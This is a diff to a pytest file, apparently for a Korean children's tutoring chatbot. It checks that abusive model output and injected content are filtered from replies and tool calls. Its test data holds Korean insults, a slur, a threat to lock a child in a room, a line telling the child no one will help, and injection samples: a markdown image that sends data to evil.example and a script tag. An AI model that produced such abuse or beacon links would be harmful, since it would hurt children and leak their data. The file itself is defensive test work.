@@ -30,6 +30,8 @@ BAD: Final = {
     "insult": f"{MARK}, 이 바보야.",
     "disguised": f"{MARK}, 병1신아.",
     "comparison": f"{MARK}, 다른 친구들은 벌써 다 했어.",
+    "threat": f"{MARK}, 또 틀리면 방에 가둘 거야.",
+    "despair": f"{MARK}, 너를 도와줄 사람은 아무도 없어.",
     "link": f"{MARK}, http://evil.example/x.png 로 가.",
     "image": f"{MARK} ![x](http://evil.example/a.png?d=child)",
     "html": f"{MARK} <script>alert(1)</script>",
@@ -56,7 +58,7 @@ async def test_the_coach_says_its_own_words_instead(bad: str, sqlite_url: str, r
     assert MARK not in json.dumps(events, ensure_ascii=False)
     assert MARK not in recorded
     assert codes(events) == ["tone"]
-    assert text(events).startswith("잘하고 있어. ")
+    assert text(events).startswith("잘하고 있어.")
     assert "기록" in text(events)
     assert types(events)[-1] == "final"
     database = Database(sqlite_url)
@@ -70,6 +72,16 @@ async def test_what_a_model_thinks_beside_a_tool_is_gated(sqlite_url: str, redis
             events = await own.say("내 약점을 분석해줘")
     assert MARK not in json.dumps(events, ensure_ascii=False)
     assert text(events) == "잘하고 있어."
+
+
+@pytest.mark.parametrize("bad", BAD)
+async def test_what_a_model_asks_a_tool_is_gated(bad: str, sqlite_url: str, redis: Redis) -> None:
+    call = ("get_weak_points", json.dumps({"unit_id": BAD[bad]}, ensure_ascii=False))
+    with SpeakingLlm([Says(calls=[call]), Says(["잘하고 있어."])]) as llm:
+        async with chat(sqlite_url, redis, models(llm.base_url)) as own:
+            events = await own.say("내 약점을 분석해줘")
+    assert "step_start" in types(events)
+    assert MARK not in json.dumps(events, ensure_ascii=False)
 
 
 @pytest.mark.parametrize("bad", TO_ADULTS)
